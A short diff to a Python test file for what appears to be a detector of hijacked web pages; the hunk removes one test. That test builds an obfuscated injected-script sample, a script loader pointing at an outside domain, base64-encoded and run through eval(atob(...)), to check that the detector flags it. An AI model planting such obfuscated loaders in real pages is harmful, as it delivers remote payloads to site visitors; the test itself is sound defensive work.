@@ -67,14 +67,6 @@ def test_a_created_hidden_frame_to_a_host_the_page_links_is_clean():
     assert not clean_page(_page(tail=tail, links=links), url=URL).hijacked
 
 
-def test_a_created_loader_from_a_decoded_address_is_the_written_one():
-    import base64
-    code = ('var s=document.createElement("script");s.src="https://js.kqmvtz2931.vip/tj.js?v=3";'
-            'document.head.appendChild(s);')
-    tail = f'<script>eval(atob("{base64.b64encode(code.encode()).decode()}"));</script>'
-    assert _flags(tail, "kqmvtz2931.vip")
-
-
 # (a) a gate for some real browser acts for that browser's visitors
 
 def _frame_for(test: str) -> str:
